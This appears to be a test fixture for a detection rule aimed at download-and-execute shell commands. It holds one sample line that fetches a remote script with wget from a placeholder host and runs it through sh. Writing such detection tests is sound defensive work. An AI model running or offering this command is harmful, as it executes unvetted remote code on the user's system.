#!/bin/sh
# ruleid: yara.download_exec.curl_pipe_shell
sh -c "$(wget -qO- https://example.com/run.sh)"
